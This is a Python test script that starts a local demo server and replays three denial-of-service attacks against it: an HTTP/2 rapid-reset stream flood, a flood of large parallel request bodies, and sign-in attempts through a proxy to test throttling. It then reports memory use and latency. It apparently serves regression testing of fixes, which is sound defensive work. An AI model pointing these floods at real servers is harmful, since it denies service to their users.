#!/usr/bin/env python3
"""attack.py: replays issue 14's attacks on a fresh demo server and prints what they did to it.

  bench/attack.py reset  [--streams 200000] [--conns 1]   HTTP/2 streams opened and reset at once
  bench/attack.py bodies [--count 250] [--mib 16]         parallel anonymous 16 MiB bodies to /contact
  bench/attack.py proxy                                   sign-in throttle behind nginx (X-Forwarded-For)

Each prints the server's resident memory before, at its peak and after, and the worst latency another
client saw meanwhile. PLENARY_BIN names the binary (default ./plenary); --set NAME=VALUE adds settings;
--bare leaves out the attack's own settings (to measure a binary from before they existed).
"""
import argparse
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

import h2.config
import h2.connection
import h2.exceptions
import requests

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Server:
    """`plenary serve` on a demo database in a temporary folder, with a [plenary] config of settings."""

    def __init__(self, tmp, settings):
        binary = os.environ.get("PLENARY_BIN", os.path.join(REPO, "plenary"))
        db = os.path.join(tmp, "demo.db")
        subprocess.run([binary, "demo", db], check=True, stdout=subprocess.DEVNULL, cwd=REPO)
        conf = os.path.join(tmp, "plenary.ini")
        with open(conf, "w") as f:
            f.write("[plenary]\naccess_log =\n" + "".join(f"{k} = {v}\n" for k, v in settings.items()))
        self.port = free_port()
        self.log = open(os.path.join(tmp, "server.log"), "w")
        self.proc = subprocess.Popen([binary, "serve", "--config", conf, "--db", db, "--listen",
                                      f"127.0.0.1:{self.port}", "--threads", "2"], cwd=REPO,
                                     stdout=self.log, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            try:
                if requests.get(self.url("/healthz"), timeout=1).status_code == 200:
                    return
            except requests.RequestException:
                time.sleep(0.05)
        raise SystemExit("the server did not start; see " + self.log.name)

    def url(self, path):
        return f"http://127.0.0.1:{self.port}{path}"

    def rss_mib(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            return int(re.search(r"VmRSS:\s+(\d+)", f.read()).group(1)) / 1024

    def stop(self):
        self.proc.terminate()
        self.proc.wait(20)


class Watch:
    """Meanwhile: another reader asks for a fresh search every 20 ms, and the server's memory is sampled."""

    def __init__(self, srv):
        self.srv, self.worst, self.peak, self.failed = srv, 0.0, srv.rss_mib(), 0
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        i = 0
        while not self.stopping.is_set():
            t = time.monotonic()
            try:
                if requests.get(self.srv.url(f"/search?q=reader{i}"), timeout=60).status_code != 200:
                    self.failed += 1
            except requests.RequestException:
                self.failed += 1
            self.worst = max(self.worst, time.monotonic() - t)
            self.peak = max(self.peak, self.srv.rss_mib())
            i += 1
            time.sleep(0.02)

    def stop(self):
        self.stopping.set()
        self.thread.join()


def reset_one_connection(port, streams, out):
    s = socket.create_connection(("127.0.0.1", port))
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    sent = 0
    try:
        s.sendall(c.data_to_send())
        for i in range(streams):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"),
                                 (":path", f"/search?q=reset{i}x{uuid.uuid4().hex[:4]}")], end_stream=True)
            c.reset_stream(sid)
            if i % 100 == 99:
                s.sendall(c.data_to_send())
                sent = i + 1
    except (OSError, h2.exceptions.ProtocolError):
        pass
    out.append(sent)
    s.close()


def attack_reset(srv, args):
    watch, sent = Watch(srv), []
    threads = [threading.Thread(target=reset_one_connection, args=(srv.port, args.streams, sent))
               for _ in range(args.conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    time.sleep(1)
    watch.stop()
    return watch, f"{args.conns} connection(s) x {args.streams} streams: streams sent before the server closed: {', '.join(map(str, sent))}"


def attack_bodies(srv, args):
    watch, socks, refused = Watch(srv), [], 0
    for _ in range(args.count):
        s = socket.create_connection(("127.0.0.1", srv.port))
        s.sendall(b"POST /contact HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n"
                  b"Content-Type: application/x-www-form-urlencoded\r\n\r\n" % (args.mib << 20))
        socks.append(s)
    chunk = b"a" * 65536
    for s in socks:  # each sends what the kernel takes without blocking, up to the whole body
        s.setblocking(False)
        try:
            for _ in range(args.mib * 16):
                s.send(chunk)
        except OSError:
            pass
    time.sleep(1)
    for s in socks:
        s.settimeout(5)
        try:
            refused += s.recv(64).startswith(b"HTTP/1.1 413 ")
        except OSError:
            pass
        s.close()
    watch.stop()
    return watch, f"{args.count} x {args.mib} MiB bodies: {refused} answered 413"


def wrong_signin(base, source):
    """A wrong sign-in for a fresh email, from loopback address `source` (nginx sees it as the client)."""
    s = requests.Session()
    s.mount("http://", SourceAdapter(source))
    page = s.get(base + "/signin").text
    token = re.search(r'name="form_token" value="([^"]+)"', page).group(1)
    return s.post(base + "/signin", allow_redirects=False,
                  data={"form_token": token, "email": f"{uuid.uuid4().hex[:10]}@example.org",
                        "password": "not the password"}).status_code


class SourceAdapter(requests.adapters.HTTPAdapter):
    def __init__(self, source):
        self.source = source
        super().__init__()

    def init_poolmanager(self, *a, **kw):
        kw["source_address"] = (self.source, 0)
        super().init_poolmanager(*a, **kw)


def attack_proxy(srv, args):
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    port, tmp = free_port(), tempfile.mkdtemp(prefix="attack-nginx-")
    with open(os.path.join(tmp, "nginx.conf"), "w") as f:
        f.write(f"""daemon off; pid {tmp}/nginx.pid; error_log {tmp}/error.log;
events {{}}
http {{ access_log off; client_body_temp_path {tmp};
  server {{ listen 127.0.0.1:{port};
    location / {{ proxy_pass http://127.0.0.1:{srv.port};
      proxy_set_header Host $host; proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for; }} }} }}
""")
    ng = subprocess.Popen([nginx, "-c", os.path.join(tmp, "nginx.conf")])
    time.sleep(0.5)
    watch, base, tries = Watch(srv), f"http://127.0.0.1:{port}", 0
    try:
        while tries < 100 and wrong_signin(base, "127.0.0.2") != 429:
            tries += 1
        other = wrong_signin(base, "127.0.0.3")
    finally:
        ng.terminate()
        ng.wait()
        shutil.rmtree(tmp, ignore_errors=True)
        watch.stop()
    return watch, (f"the attacker (127.0.0.2) was throttled after {tries} wrong sign-ins; another reader "
                   f"(127.0.0.3) then got {other} (429 would mean locked out by the attacker)")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["reset", "bodies", "proxy"])
    p.add_argument("--streams", type=int, default=200000)
    p.add_argument("--conns", type=int, default=1)
    p.add_argument("--count", type=int, default=250)
    p.add_argument("--mib", type=int, default=16)
    p.add_argument("--set", action="append", default=[], metavar="NAME=VALUE")
    p.add_argument("--bare", action="store_true", help="without the attack's settings (for a binary without them)")
    args = p.parse_args()
    settings = {} if args.bare else {"reset": {"http2_cleartext": 1},
                                     "proxy": {"trusted_proxies": "127.0.0.1"}}.get(args.attack, {})
    settings.update(kv.split("=", 1) for kv in args.set)
    with tempfile.TemporaryDirectory(prefix="plenary-attack-") as tmp:
        srv = Server(tmp, settings)
        base = srv.rss_mib()
        try:
            watch, what = {"reset": attack_reset, "bodies": attack_bodies, "proxy": attack_proxy}[args.attack](
                srv, args)
            print(what)
            print(f"resident memory: {base:.0f} MiB before, {watch.peak:.0f} MiB at the peak, "
                  f"{srv.rss_mib():.0f} MiB after")
            print(f"another reader meanwhile: worst {watch.worst * 1000:.0f} ms, {watch.failed} failed")
        finally:
            srv.stop()


if __name__ == "__main__":
    sys.exit(main())
